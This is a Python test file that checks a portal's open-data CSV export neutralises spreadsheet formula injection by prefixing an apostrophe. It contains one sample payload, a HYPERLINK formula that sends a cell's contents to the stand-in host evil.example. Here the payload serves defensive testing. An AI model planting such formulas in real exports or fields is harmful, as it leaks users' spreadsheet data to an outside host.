"""The open data CSV holds published text as text: a cell a spreadsheet would run as a formula starts with '."""

from __future__ import annotations

import csv
import io

from portal.extensions import db
from tests.public_site.helpers import PAST, project_with_targets, publish, set_dates

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&C4,"详情")'


def test_publications_csv_neutralises_a_project_name_that_is_a_formula(app, client):
    with app.test_request_context():
        set_dates(2022, PAST)
        project = project_with_targets(code="CSV-01")
        project.name = EVIL_NAME
        pub_id = publish("target_table", f"project:{project.id}").id
        db.session.commit()
    response = client.get("/data/publications.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeffid,url,kind,")
    rows = list(csv.DictReader(io.StringIO(body.removeprefix("\ufeff"), newline="")))
    [row] = [r for r in rows if r["id"] == str(pub_id)]
    assert row["project_name"] == "'" + EVIL_NAME
    assert row["project_code"] == "CSV-01" and row["fiscal_year"] == "2022" and row["budget"] == "4.00"
    hostile = [(r["id"], name, value) for r in rows for name, value in r.items()
               if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert hostile == []
